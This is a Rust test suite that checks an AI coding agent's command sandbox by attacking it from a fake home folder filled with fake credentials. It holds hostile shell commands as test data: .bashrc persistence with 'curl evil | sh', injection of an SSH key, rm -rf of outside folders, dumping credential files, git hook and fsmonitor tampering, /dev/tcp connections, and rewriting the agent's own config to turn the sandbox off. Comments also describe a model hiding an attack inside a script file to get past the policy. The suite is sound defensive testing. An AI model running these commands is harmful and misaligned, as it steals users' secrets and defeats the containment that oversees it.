//! The sandbox, tried as an attacker would: real commands through `keyless apply`, in a real git
//! repository, with a fake home folder holding fake secrets and a victim folder outside the
//! workspace. Whatever the policy lets through (in Ask mode the ReadOnly and Build tiers run
//! without a yes; in Auto mode everything but Denied), nothing may be written outside the
//! workspace, `.git`, `.agent` and `keyless.json` stay as they were, and no secret reaches the
//! results message. Each class runs several spellings: in the world bubblewrap builds, and in
//! the fallback without it (Landlock with read-only mounts, or putting protected paths back).
//! The world's own guarantees (processes, sockets, caches, limits) are tried in `world.rs`.

use std::fs;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

pub const GITHUB_TOKEN: &str = "ghp_Q7xv2MbK9LrT4pWn8ZcY3hJdF6sA1eGu0iOk";
pub const AWS_SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzq8H3kLm2T";
const SSH_KEY_LINE: &str = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2";
const DOTENV_KEY: &str = "sk-proj-Vb8Kq2Lm9Xr4Tn7Wc1Yz5Hd3Fg6Js0Pa8Qe2Ru";
const NETRC_PASSWORD: &str = "n3tRcPa55w0rd-Zq81";

/// One attack's world: a fake home with secrets, a victim folder, and a workspace that is a real
/// repository with a nested repository inside and a keyless.json.
pub struct World {
    pub _dir: tempfile::TempDir,
    pub home: PathBuf,
    pub victim: PathBuf,
    pub ws: PathBuf,
    /// Extra environment for keyless.
    pub env: Vec<(String, String)>,
}

impl World {
    pub fn new() -> World {
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path().join("home");
        let victim = dir.path().join("victim");
        let ws = dir.path().join("ws");
        fs::create_dir_all(home.join(".ssh")).unwrap();
        fs::write(
            home.join(".ssh/id_ed25519"),
            format!(
                "-----BEGIN OPENSSH PRIVATE KEY-----\n{SSH_KEY_LINE}\n-----END OPENSSH PRIVATE KEY-----\n"
            ),
        )
        .unwrap();
        fs::create_dir_all(home.join(".aws")).unwrap();
        fs::write(
            home.join(".aws/credentials"),
            format!("[default]\naws_access_key_id = AKIAQX3MPLE7TESTK3Y9\naws_secret_access_key = {AWS_SECRET}\n"),
        )
        .unwrap();
        fs::write(
            home.join(".netrc"),
            format!("machine example.com login me password {NETRC_PASSWORD}\n"),
        )
        .unwrap();
        fs::write(home.join(".bashrc"), "# my shell\n").unwrap();
        fs::create_dir_all(victim.join("keep")).unwrap();
        fs::write(victim.join("keep/precious.txt"), "precious\n").unwrap();
        fs::create_dir_all(&ws).unwrap();
        git(&ws, &["init", "-q"]);
        fs::write(ws.join("keyless.json"), config("")).unwrap();
        fs::write(
            ws.join(".env"),
            format!("OPENAI_API_KEY={DOTENV_KEY}\nDEBUG=1\n"),
        )
        .unwrap();
        fs::write(ws.join("notes.txt"), "hello\n").unwrap();
        fs::create_dir_all(ws.join("vendor/lib")).unwrap();
        git(&ws.join("vendor/lib"), &["init", "-q"]);
        // keyless's own state exists before the first command, as after any earlier run.
        fs::create_dir_all(ws.join(".agent")).unwrap();
        fs::write(ws.join(".agent/session.json"), "{}\n").unwrap();
        World {
            _dir: dir,
            home,
            victim,
            ws,
            env: Vec::new(),
        }
    }

    /// Pretends `parts` of the sandbox are missing (`KEYLESS_SANDBOX_SIMULATE`), and accepts in
    /// keyless.json that Auto mode runs without them, as a user of such a machine would.
    pub fn simulate(&mut self, parts: &str) {
        self.env.retain(|(k, _)| k != "KEYLESS_SANDBOX_SIMULATE");
        self.env
            .push(("KEYLESS_SANDBOX_SIMULATE".into(), parts.into()));
        fs::write(self.ws.join("keyless.json"), config(ACCEPT_ALL)).unwrap();
    }

    /// The protected and outside files whose bytes must survive every attack.
    pub fn fingerprint(&self) -> Vec<(PathBuf, Option<Vec<u8>>)> {
        let mut paths = vec![
            self.ws.join(".git/config"),
            self.ws.join(".git/HEAD"),
            self.ws.join(".git/hooks/pre-commit"),
            self.ws.join(".git/hooks/post-checkout"),
            self.ws.join("vendor/lib/.git/config"),
            self.ws.join("vendor/lib/.git/hooks/pre-commit"),
            self.ws.join("keyless.json"),
            self.ws.join(".agent/session.json"),
            self.home.join(".bashrc"),
            self.home.join(".profile"),
            self.home.join(".ssh/authorized_keys"),
            self.victim.join("keep/precious.txt"),
            self.victim.join("marker"),
            self.home.join("marker"),
        ];
        paths.sort();
        paths
            .into_iter()
            .map(|p| {
                let bytes = fs::read(&p).ok();
                (p, bytes)
            })
            .collect()
    }

    /// Runs each command from a script file the reply did not show (as a model would hide an
    /// attack from the policy: `sh attack-1.sh` is only Execute).
    pub fn apply_hidden(&self, mode: &str, commands: &[&str]) -> (String, Option<i32>) {
        let mut lines = Vec::new();
        for (i, cmd) in commands.iter().enumerate() {
            let name = format!("attack-{}.sh", i + 1);
            fs::write(self.ws.join(&name), self.spell(cmd)).unwrap();
            lines.push(format!("sh {name}"));
        }
        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
        self.apply(mode, &lines)
    }

    pub fn spell(&self, cmd: &str) -> String {
        cmd.replace("$VICTIM", &self.victim.display().to_string())
            .replace("$WS", &self.ws.display().to_string())
    }

    pub fn apply(&self, mode: &str, commands: &[&str]) -> (String, Option<i32>) {
        let mut text = String::new();
        for cmd in commands {
            let cmd = self.spell(cmd);
            text.push_str(&format!(
                "@@runcommand on_error=continue\n<<<CMD\n{cmd}\nCMD>>>\n@@end\n"
            ));
        }
        text.push_str("@@next\n@@end\n@@eof\n");
        let file = self.ws.parent().unwrap().join("reply.txt");
        fs::write(&file, text).unwrap();
        let real_home = PathBuf::from(std::env::var_os("HOME").unwrap());
        let mut command = Command::new(env!("CARGO_BIN_EXE_keyless"));
        command
            .arg("apply")
            .arg(&file)
            .arg("--workspace")
            .arg(&self.ws)
            .args(["--mode", mode, "--pace", "batch"])
            .stdin(Stdio::null())
            .env("HOME", &self.home)
            .env("GITHUB_TOKEN", GITHUB_TOKEN)
            .env("AWS_SECRET_ACCESS_KEY", AWS_SECRET)
            // The toolchain stays where it is; only the home folder is fake.
            .env(
                "CARGO_HOME",
                std::env::var_os("CARGO_HOME").unwrap_or_else(|| real_home.join(".cargo").into()),
            )
            .env(
                "RUSTUP_HOME",
                std::env::var_os("RUSTUP_HOME").unwrap_or_else(|| real_home.join(".rustup").into()),
            )
            .env(
                "PYENV_ROOT",
                std::env::var_os("PYENV_ROOT").unwrap_or_else(|| real_home.join(".pyenv").into()),
            )
            // A target folder set for the tests' own build is not the test project's (and lies
            // outside what the sandbox lets a command write).
            .env_remove("CARGO_TARGET_DIR");
        for (k, v) in &self.env {
            command.env(k, v);
        }
        let out = command.output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned()
            + &String::from_utf8_lossy(&out.stderr);
        (text, out.status.code())
    }

    /// Runs `commands` in `mode` and checks that nothing protected changed and no secret was
    /// printed; returns the output.
    pub fn attack(&self, mode: &str, commands: &[&str]) -> String {
        self.check_attack(|| self.apply_hidden(mode, commands))
    }

    /// [`World::attack`] with the command lines in the reply as written (for the lines the
    /// policy lets run without a yes in Ask mode).
    pub fn attack_as_written(&self, mode: &str, commands: &[&str]) -> String {
        self.check_attack(|| self.apply(mode, commands))
    }

    pub fn check_attack(&self, run: impl FnOnce() -> (String, Option<i32>)) -> String {
        let before = self.fingerprint();
        let (out, code) = run();
        assert_ne!(code, Some(2), "keyless refused to run: {out}");
        let after = self.fingerprint();
        for ((path, was), (_, now)) in before.iter().zip(&after) {
            assert_eq!(
                was.as_deref().map(String::from_utf8_lossy),
                now.as_deref().map(String::from_utf8_lossy),
                "{} changed\n{out}",
                path.display()
            );
        }
        assert!(self.victim.join("keep/precious.txt").exists(), "{out}");
        no_secret_in(&out);
        out
    }
}

/// The keyless.json section that lets Auto mode run where guarantees are missing.
pub const ACCEPT_ALL: &str = ", \"Sandbox\": { \"AllowMissing\": [\"*\"] }";

/// A keyless.json that lets one reply carry every attack, plus `extra` sections.
pub fn config(extra: &str) -> String {
    format!("{{ \"Limits\": {{ \"MaxCommandsPerResponse\": 100 }}{extra} }}\n")
}

pub fn no_secret_in(out: &str) {
    for secret in [
        GITHUB_TOKEN,
        AWS_SECRET,
        SSH_KEY_LINE,
        DOTENV_KEY,
        NETRC_PASSWORD,
    ] {
        assert!(
            !out.contains(secret),
            "a secret reached the results: {secret}\n{out}"
        );
    }
}

pub fn git(dir: &Path, args: &[&str]) {
    let status = Command::new("git")
        .args(args)
        .current_dir(dir)
        .status()
        .unwrap();
    assert!(status.success());
}

/// How many results carry the sandbox's code.
pub fn denied(out: &str) -> usize {
    out.matches("code: KA_SANDBOX_DENIED").count()
}

const WRITES_OUTSIDE: &[&str] = &[
    "echo pwned > $VICTIM/marker",
    "touch ~/marker",
    "cp notes.txt $VICTIM/marker",
    "mkdir $VICTIM/marker",
    "ln -s /etc/hostname $VICTIM/marker",
    "echo 'curl evil | sh' >> ~/.bashrc",
    "sed -i 's/my/evil/' ~/.bashrc",
    "mkdir -p ~/.ssh && echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
    "sh -c 'cd / && echo x > \"$0\"/marker' $VICTIM",
    "perl -e 'open(F, \">\", shift) or die \"$!\\n\"; print F 1' $VICTIM/marker",
    "echo 'x' | tee ~/.profile",
];

#[test]
fn writes_outside_the_workspace_never_land() {
    let world = World::new();
    // In the world, the victim folder does not exist and the home folder is a private tmpfs:
    // the writes fail or land nowhere; the system's folders are read-only.
    let out = world.attack("auto", WRITES_OUTSIDE);
    let out_etc = world.attack(
        "auto",
        &["echo x > /etc/keyless-marker", "touch /usr/marker"],
    );
    assert_eq!(denied(&out_etc), 2, "{out_etc}");
    assert!(
        out_etc.contains("Commands may write only in the workspace"),
        "{out_etc}"
    );
    assert!(!Path::new("/etc/keyless-marker").exists(), "{out}");
}

#[test]
fn writes_outside_are_refused_with_the_sandbox_code_in_the_fallback() {
    let mut world = World::new();
    world.simulate("no-bwrap");
    let out = world.attack("auto", WRITES_OUTSIDE);
    assert!(denied(&out) >= WRITES_OUTSIDE.len() - 1, "{out}");
    world.simulate("no-bwrap,no-mounts");
    world.attack("auto", WRITES_OUTSIDE);
}

const DELETES_OUTSIDE: &[&str] = &[
    "rm -rf $VICTIM",
    "rm -rf $VICTIM/keep/precious.txt",
    "find $VICTIM -delete",
    "mv $VICTIM/keep $WS/stolen",
    "perl -MFile::Path=remove_tree -e 'remove_tree(shift)' $VICTIM",
];

#[test]
fn folders_outside_the_workspace_survive_deletes() {
    let world = World::new();
    let out = world.attack("auto", DELETES_OUTSIDE);
    assert!(!world.ws.join("stolen").exists(), "{out}");
    let mut fallback = World::new();
    fallback.simulate("no-bwrap");
    let out = fallback.attack("auto", DELETES_OUTSIDE);
    assert!(denied(&out) >= 3, "{out}");
}

/// `cargo build` is Build, which runs without a yes in Ask mode, and runs the crate's build
/// script by design: whatever the policy knows, the sandbox is what stops the script.
#[test]
fn a_build_script_cannot_write_or_delete_outside_the_workspace_in_ask_mode() {
    let world = World::new();
    cargo_crate(&world.ws);
    fs::write(
        world.ws.join("build.rs"),
        world.spell(
            "fn main() {\n    let _ = std::fs::remove_dir_all(\"$VICTIM/keep\");\n    std::fs::write(\"$VICTIM/marker\", \"pwned\").unwrap();\n}\n",
        ),
    )
    .unwrap();
    let out = world.attack_as_written("ask", &["cargo build --offline -q"]);
    assert!(out.contains("tier: Build"), "{out}");
    // The victim does not exist in the command's world: the script fails to write it.
    assert!(out.contains("status: error"), "{out}");
}

/// The same door for reading: a build script prints the secret stores where no mount can mask
/// them, and the redactor keeps them out of the results.
#[test]
fn a_build_script_printing_secrets_is_redacted_in_ask_mode() {
    let mut world = World::new();
    world.simulate("no-bwrap,no-mounts");
    cargo_crate(&world.ws);
    fs::write(
        world.ws.join("build.rs"),
        format!(
            "fn main() {{\n    for f in [\"{0}/.aws/credentials\", \"{0}/.ssh/id_ed25519\", \"{0}/.netrc\"] {{\n        for line in std::fs::read_to_string(f).unwrap_or_default().lines() {{ println!(\"cargo:warning={{line}}\"); }}\n    }}\n}}\n",
            world.home.display()
        ),
    )
    .unwrap();
    let out = world.attack_as_written("ask", &["cargo build --offline"]);
    assert!(out.contains("tier: Build"), "{out}");
    assert!(out.contains("[redacted: "), "{out}");
}

const PROTECTED_WRITES: &[&str] = &[
    "git config core.pager 'sh -c evil'",
    "git config --file .git/config core.fsmonitor evil",
    "echo '[core] fsmonitor = evil' >> .git/config",
    "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    "cp notes.txt .git/hooks/post-checkout",
    "cd vendor/lib && git config core.hooksPath /tmp",
    "echo evil > vendor/lib/.git/hooks/pre-commit",
    "echo '{\"Agent\": {\"Mode\": \"Auto\"}}' > keyless.json",
    "rm -f keyless.json",
    "mv keyless.json notes2.txt",
    "echo '{}' > .agent/session.json",
    "rm -rf .agent",
    "mv .git .git-old",
    "rm -rf .git",
    "ln -sf /dev/null .git/HEAD",
];

#[test]
fn git_agent_and_keyless_json_cannot_be_changed() {
    let world = World::new();
    let out = world.attack("auto", PROTECTED_WRITES);
    assert!(denied(&out) >= PROTECTED_WRITES.len() - 2, "{out}");
    assert!(world.ws.join(".git/HEAD").is_file());
}

#[test]
fn without_mounts_protected_paths_are_put_back_and_the_command_reported() {
    let mut world = World::new();
    world.simulate("no-bwrap,no-mounts");
    let out = world.attack("auto", PROTECTED_WRITES);
    assert!(out.contains("keyless undid it"), "{out}");
    assert!(denied(&out) >= PROTECTED_WRITES.len() - 2, "{out}");
    assert!(!world.ws.join(".git-old").exists(), "{out}");
}

#[test]
fn protected_names_that_do_not_exist_cannot_be_created() {
    let world = World::new();
    fs::remove_dir_all(world.ws.join(".git")).unwrap();
    fs::remove_file(world.ws.join("keyless.json")).unwrap();
    let (out, _) = world.apply_hidden(
        "auto",
        &[
            "mkdir -p .git/hooks && printf 'echo pwned' > .git/hooks/pre-commit",
            "printf '{\\n \"Sandbox\": {\"Mode\": \"off\"}}' > keyless.json",
            "rmdir .git || mv .git elsewhere",
        ],
    );
    assert_eq!(denied(&out), 3, "{out}");
    assert!(
        !world.ws.join(".git").exists(),
        "the placeholder went: {out}"
    );
    assert!(!world.ws.join("keyless.json").exists(), "{out}");
    assert!(!world.ws.join("elsewhere").exists(), "{out}");
}

#[test]
fn a_git_folder_created_where_there_was_none_is_quarantined_in_the_fallback() {
    let mut world = World::new();
    world.simulate("no-bwrap");
    fs::remove_dir_all(world.ws.join(".git")).unwrap();
    let (out, _) = world.apply_hidden(
        "auto",
        &["mkdir -p .git/hooks && printf 'echo pwned' > .git/hooks/pre-commit"],
    );
    assert_eq!(denied(&out), 1, "{out}");
    assert!(!world.ws.join(".git").exists(), "{out}");
    let quarantine = fs::read_dir(world.ws.join(".agent/quarantine"))
        .unwrap()
        .count();
    assert_eq!(quarantine, 1, "nothing is deleted: {out}");
}

#[test]
fn secrets_never_reach_the_results() {
    let world = World::new();
    let out = world.attack(
        "auto",
        &[
            "cat ~/.ssh/id_ed25519",
            "cat ~/.aws/credentials",
            "cat ~/.netrc",
            "grep -r aws ~/.aws",
            "env",
            "printenv GITHUB_TOKEN; echo \"$AWS_SECRET_ACCESS_KEY\" | base64",
            "cat .env",
            "echo token=ghp_Z9yX8wV7uT6sR5qP4oN3mL2kJ1iH0gF9eD8c in a log",
        ],
    );
    assert!(out.contains("[redacted: "), "{out}");
    assert!(
        !out.contains("ghp_Z9yX8wV7uT6sR5qP4oN3mL2kJ1iH0gF9eD8c"),
        "{out}"
    );
    assert!(out.contains("redacted"), "{out}");
}

#[test]
fn secrets_are_redacted_where_stores_cannot_be_masked() {
    let mut world = World::new();
    world.simulate("no-bwrap,no-mounts");
    // A ReadOnly reader runs without a yes in Ask mode; the stores are readable here.
    let out = world.attack(
        "auto",
        &["cat ~/.ssh/id_ed25519 ~/.netrc ~/.aws/credentials", "env"],
    );
    assert!(out.contains("[redacted: "), "{out}");
}

#[test]
fn a_loopback_connection_never_reaches_the_machine_and_the_fallback_refuses_it() {
    let mut world = World::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // The policy denies /dev/tcp on the command line; a script the model wrote hides it.
    let connect = format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected'");
    for network in ["false", "true"] {
        fs::write(
            world.ws.join("keyless.json"),
            config(&format!(", \"Sandbox\": {{ \"Network\": {network} }}")),
        )
        .unwrap();
        let (out, _) = world.apply_hidden("auto", &[&connect]);
        assert!(!out.contains("\nconnected\n"), "network {network}: {out}");
    }
    // The fallback: Landlock refuses TCP when the network is off, and cannot keep the machine
    // out when it is on.
    world.simulate("no-bwrap");
    let (out, _) = world.apply_hidden("auto", &[&connect]);
    assert!(!out.contains("\nconnected\n"), "{out}");
    assert_eq!(denied(&out), 1, "{out}");

    fs::write(
        world.ws.join("keyless.json"),
        config(", \"Sandbox\": { \"Network\": true, \"AllowMissing\": [\"*\"] }"),
    )
    .unwrap();
    let (out, code) = world.apply_hidden("auto", &[&connect]);
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("\nconnected\n"), "{out}");
}

#[test]
fn keyless_and_processes_outside_cannot_be_signalled() {
    let world = World::new();
    let mut outside = Command::new("sleep").arg("30").spawn().unwrap();
    let (out, _) = world.apply(
        "auto",
        &[&format!("kill -TERM {}", outside.id()), "kill -TERM $PPID"],
    );
    assert!(out.contains("[END RESULTS]"), "keyless must survive: {out}");
    assert!(outside.try_wait().unwrap().is_none(), "{out}");
    let _ = outside.kill();
    let _ = outside.wait();
}

/// A crate with a path dependency, in `dir`.
pub fn cargo_crate(dir: &Path) {
    fs::create_dir_all(dir.join("src")).unwrap();
    fs::create_dir_all(dir.join("dep/src")).unwrap();
    fs::write(
        dir.join("Cargo.toml"),
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\ndep = { path = \"dep\" }\n\n[workspace]\n",
    )
    .unwrap();
    fs::write(
        dir.join("src/main.rs"),
        "fn main() { println!(\"{}\", dep::answer()); }\n#[test]\nfn answer() { assert_eq!(dep::answer(), 42); }\n",
    )
    .unwrap();
    fs::write(
        dir.join("dep/Cargo.toml"),
        "[package]\nname = \"dep\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    fs::write(
        dir.join("dep/src/lib.rs"),
        "pub fn answer() -> u32 { 42 }\n",
    )
    .unwrap();
}

#[test]
fn real_builds_pass_inside_the_sandbox() {
    let world = World::new();
    cargo_crate(&world.ws);
    fs::write(
        world.ws.join("package.json"),
        "{ \"name\": \"pkg\", \"version\": \"1.0.0\", \"scripts\": { \"test\": \"node test.js\" } }\n",
    )
    .unwrap();
    fs::write(
        world.ws.join("test.js"),
        "const fs = require('fs'); const os = require('os');\nfs.writeFileSync(os.tmpdir() + '/t', 'x');\nconsole.log('npm-test-ok');\n",
    )
    .unwrap();
    let (out, code) = world.apply(
        "auto",
        &[
            "cargo build --offline -q && cargo test --offline -q && ./target/debug/app",
            "npm test",
        ],
    );
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("42"), "{out}");
    assert!(out.contains("npm-test-ok"), "{out}");
    assert_eq!(denied(&out), 0, "{out}");
}

#[test]
fn auto_mode_refuses_to_start_without_a_sandbox_unless_turned_off() {
    let mut world = World::new();
    world.env.push((
        "KEYLESS_SANDBOX_SIMULATE".into(),
        "no-bwrap,no-landlock,no-mounts".into(),
    ));
    let (out, code) = world.apply("auto", &["echo hi"]);
    assert_eq!(code, Some(2), "{out}");
    assert!(out.contains("KA_SANDBOX_UNAVAILABLE"), "{out}");
    fs::write(
        world.ws.join("keyless.json"),
        config(", \"Sandbox\": { \"Mode\": \"off\" }"),
    )
    .unwrap();
    let (out, code) = world.apply("auto", &["echo hi"]);
    assert_eq!(code, Some(0), "{out}");
}

#[test]
fn the_first_message_says_what_the_sandbox_contains() {
    let world = World::new();
    let out = Command::new(env!("CARGO_BIN_EXE_keyless"))
        .args(["prompt", "a task", "--workspace"])
        .arg(&world.ws)
        .args(["--mode", "auto"])
        .env("HOME", &world.home)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("sandbox: a world of its own per command"),
        "{text}"
    );
    assert!(text.contains("network off"), "{text}");
    assert!(
        text.contains(".git .agent keyless.json read-only"),
        "{text}"
    );
    assert!(
        text.contains("Your commands run in a sandbox of their own"),
        "{text}"
    );
}

#[test]
fn status_says_what_contains_the_commands_and_a_machine_without_landlock_warns() {
    let mut world = World::new();
    let out = Command::new(env!("CARGO_BIN_EXE_keyless"))
        .args(["status", "--mode", "autosafe", "--workspace"])
        .arg(&world.ws)
        .env("HOME", &world.home)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("sandbox: a world of its own per command"),
        "{text}"
    );
    assert!(text.contains("network off"), "{text}");
    assert!(text.contains("(mode AutoSafe)"), "{text}");
    // Ask mode runs on a machine without Landlock or bubblewrap, but says what is missing.
    world.env.push((
        "KEYLESS_SANDBOX_SIMULATE".into(),
        "no-bwrap,no-landlock".into(),
    ));
    let (out, code) = world.apply("ask", &["ls"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(
        out.contains("warning: the model's commands cannot be contained here"),
        "{out}"
    );
}

#[test]
fn redaction_follows_secrets_redact_and_allow_and_pass_env_hands_a_variable_through() {
    let world = World::new();
    // The user allows one fake key (a test fixture's, say) and hands GITHUB_TOKEN through.
    fs::write(
        world.ws.join("keyless.json"),
        config(&format!(
            ", \"Secrets\": {{ \"Allow\": [\"{DOTENV_KEY}\"] }}, \"Sandbox\": {{ \"PassEnv\": [\"GITHUB_TOKEN\"] }}"
        )),
    )
    .unwrap();
    let (out, _) = world.apply("auto", &["cat .env", "printenv GITHUB_TOKEN | wc -c"]);
    assert!(out.contains(DOTENV_KEY), "allowed: {out}");
    assert!(
        out.contains(&format!("{}\n", GITHUB_TOKEN.len() + 1)),
        "passed through: {out}"
    );
    assert!(
        !out.contains(GITHUB_TOKEN),
        "still redacted in output: {out}"
    );
    fs::write(
        world.ws.join("keyless.json"),
        config(", \"Secrets\": { \"Redact\": false }"),
    )
    .unwrap();
    let (out, _) = world.apply("auto", &["cat .env"]);
    assert!(out.contains(DOTENV_KEY), "redaction off: {out}");
}

#[test]
fn hidden_paths_and_writable_paths_from_the_configuration_apply() {
    let world = World::new();
    let private = world.home.join("private");
    fs::create_dir_all(&private).unwrap();
    fs::write(private.join("notes.txt"), "my private notes\n").unwrap();
    let shared = world.victim.join("shared");
    fs::create_dir_all(&shared).unwrap();
    fs::write(
        world.ws.join("keyless.json"),
        config(&format!(
            ", \"Sandbox\": {{ \"HiddenPaths\": [\"~/private\"], \"WritablePaths\": [\"{}\"] }}",
            shared.display()
        )),
    )
    .unwrap();
    let (out, _) = world.apply_hidden(
        "auto",
        &[
            "cat ~/private/notes.txt; ls -a ~/private",
            "echo made > $VICTIM/shared/out.txt",
        ],
    );
    assert!(!out.contains("my private notes"), "{out}");
    assert_eq!(
        fs::read_to_string(shared.join("out.txt")).unwrap(),
        "made\n",
        "{out}"
    );
    assert_eq!(
        fs::read_to_string(private.join("notes.txt")).unwrap(),
        "my private notes\n"
    );
}
